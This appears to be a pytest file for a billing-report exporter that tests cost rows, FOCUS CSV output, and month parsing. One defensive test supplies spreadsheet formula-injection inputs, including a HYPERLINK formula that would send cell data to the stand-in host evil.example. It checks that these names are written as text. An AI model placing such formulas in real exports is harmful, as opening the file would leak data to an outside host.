"""Report rows: billed days, estimated days, providers of FOCUS series, and the formats."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest

from exporter.core.records import DAY, Dims, Family, TokenType
from exporter.history.collect import AccountMonth, months
from exporter.history.report import ReportError, parse_month, report_rows, write_report

NOV = int(datetime(2026, 11, 1, tzinfo=UTC).timestamp())
DEC = int(datetime(2026, 12, 1, tzinfo=UTC).timestamp())
GPT = Dims("proj_1", "gpt-4o")


def month(days: dict[int, dict[tuple[Family, Dims, tuple[str, ...]], float]]) -> AccountMonth:
    return AccountMonth("openai", "prod", NOV, DEC, days, {"proj_1": "Search"})


def test_a_billed_day_reports_billed_cost_and_an_unbilled_day_the_estimate() -> None:
    rows = report_rows(
        [
            month(
                {
                    NOV: {
                        (Family.BILLED_COST, Dims("proj_1"), ("gpt-4o, input",)): 2.0,
                        (Family.ESTIMATED_COST, GPT, (TokenType.INPUT, "")): 1.9,
                        (Family.TOKENS, GPT, (TokenType.INPUT, "text", "")): 1000.0,
                    },
                    NOV + DAY: {(Family.ESTIMATED_COST, GPT, (TokenType.INPUT, "")): 0.5},
                }
            )
        ]
    )
    summary = [
        (r.day, r.model, r.source, r.billed, r.estimated, r.effective, r.tokens) for r in rows
    ]
    assert summary == [
        (NOV, "", "billed", 2.0, 0.0, 2.0, 0.0),
        (NOV, "gpt-4o", "billed", 0.0, 1.9, 0.0, 1000.0),  # its spend is in the billed row
        (NOV + DAY, "gpt-4o", "estimated", 0.0, 0.5, 0.5, 0.0),
    ]
    out = io.StringIO()
    write_report(rows, (NOV, DEC), "focus", out)
    focus = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [(r["BilledCost"], r["EffectiveCost"], r["x_CostSource"]) for r in focus] == [
        ("2.0", "2.0", "billed"),
        ("0.0", "0.0", "billed"),
        ("0.0", "0.5", "estimated"),
    ]
    assert focus[1]["ConsumedQuantity"] == "1000.0" and focus[1]["ConsumedUnit"] == "Tokens"
    assert json.loads(focus[1]["Tags"]) == {
        "account": "prod",
        "model": "gpt-4o",
        "project": "Search",
    }
    assert focus[0]["ChargePeriodStart"] == "2026-11-01T00:00:00Z"
    assert focus[0]["BillingPeriodEnd"] == "2026-12-01T00:00:00Z"
    assert focus[0]["ProviderName"] == focus[0]["ServiceProviderName"] == "OpenAI"


def test_focus_series_are_reported_under_their_cloud_net_of_credits() -> None:
    nova = Dims("111", "NovaPro", provider="aws")
    day = {(Family.BILLED_COST, nova, ("usage",)): 2.0,
           (Family.BILLED_CREDIT, nova, ("credit",)): 0.5}  # as the ledger holds a credit
    rows = report_rows([AccountMonth("focus", "cloud", NOV, DEC, {NOV: day}, {})])
    out = io.StringIO()
    write_report(rows, (NOV, DEC), "csv", out)
    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
    assert (row["provider"], row["account"], row["cost_source"], row["billed_cost_usd"]) == (
        "aws",
        "cloud",
        "billed",
        "1.5",
    )


def test_months_and_their_bounds() -> None:
    assert parse_month("2026-11", DEC + 5) == (NOV, DEC)
    assert parse_month("2026-12", DEC + 5) == (DEC, DEC + 5)  # the month so far
    with pytest.raises(ReportError, match="expected YYYY-MM"):
        parse_month("11/2026", DEC)
    with pytest.raises(ReportError, match="has not started"):
        parse_month("2027-01", DEC)
    assert list(months(NOV + 3 * DAY, DEC + DAY)) == [(NOV, DEC), (DEC, DEC + DAY)]


@pytest.mark.parametrize("fmt", ["csv", "focus", "focus-1.0"])
def test_names_a_spreadsheet_would_run_as_formulas_are_written_as_text(fmt: str) -> None:
    """Project and model names are whatever members of the organisation typed; a cell starting
    with = + - @, a tab or CR runs as a formula when finance opens the CSV."""
    hostile = ['=HYPERLINK("http://evil.example/?d="&A1)', "+1+2", "-1+2", "@SUM(1)", "\tx", "\ry"]
    days = {
        NOV: {
            (Family.BILLED_COST, Dims(f"p{i}", name), ("usage",)): 1.0
            for i, name in enumerate(hostile)
        }
        | {(Family.BILLED_COST, Dims("credit"), ("credit",)): -3.0}
    }
    names = {f"p{i}": name for i, name in enumerate(hostile)}
    rows = report_rows([AccountMonth("openai", "prod", NOV, DEC, days, names)])
    out = io.StringIO()
    write_report(rows, (NOV, DEC), fmt, out)
    records = list(csv.DictReader(io.StringIO(out.getvalue())))
    cells = [value for record in records for value in record.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [c for c in cells if c.startswith("-") and not c.lstrip("-")[:1].isdigit()]
    expected = {"'" + name.replace("\r", "\n") for name in hostile}  # a lone CR ends a row
    project = "project" if fmt == "csv" else "SubAccountName"
    assert {r[project] for r in records} - {"", "credit"} == expected
    if fmt == "csv":
        assert {r["model"] for r in records} - {""} == expected
    else:  # inside the Tags JSON object, whose cell starts with "{"
        models = {json.loads(r["Tags"]).get("model") for r in records} - {None}
        assert models == set(hostile)
    billed = "billed_cost_usd" if fmt == "csv" else "BilledCost"
    assert "-3.0" in {r[billed] for r in records}  # a credit stays a number


def test_rows_left_out_are_told_and_a_secret_like_project_name_is_not_written(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from exporter.config.schema import parse_config
    from exporter.history.report import run_report

    exports = tmp_path / "exports"
    exports.mkdir()
    key = "sk-proj-" + "EchoedAsAName" * 3
    (exports / "part.csv").write_text(
        "ServiceCategory,ServiceProviderName,ChargePeriodStart,BilledCost,BillingPeriodStart,"
        "SubAccountId,SubAccountName\n"
        "AI and Machine Learning,AWS,2026-11-03T00:00:00Z,1.50,2026-11-01,111,Search\n"
        f"AI and Machine Learning,AWS,2026-11-04T00:00:00Z,2.00,2026-11-01,222,{key}\n"
        "AI and Machine Learning,AWS,2026-11-05T00:00:00Z,lots,2026-11-01,111,Search\n"
    )
    config = parse_config(
        "accounts:\n  - {name: cloud, provider: focus, options: {directory: exports}}\n",
        base_dir=tmp_path,
    )
    out = tmp_path / "report.csv"
    assert run_report(config, "2026-11", "csv", out) == 0
    err = capsys.readouterr().err
    assert err.splitlines() == [
        "warning: account cloud: cost: 2 row(s) left out, as /metrics leaves them out "
        "(first: part.csv: row 3: BilledCost is not a number)",
        "2 row(s) for 2026-11: billed $3.50, best $3.50",
    ]
    written = out.read_text()
    assert key[:12] not in written and "EchoedAsName" not in written
    projects = {(r["project_id"], r["project"]) for r in csv.DictReader(io.StringIO(written))}
    assert projects == {("111", "Search"), ("222", "222")}
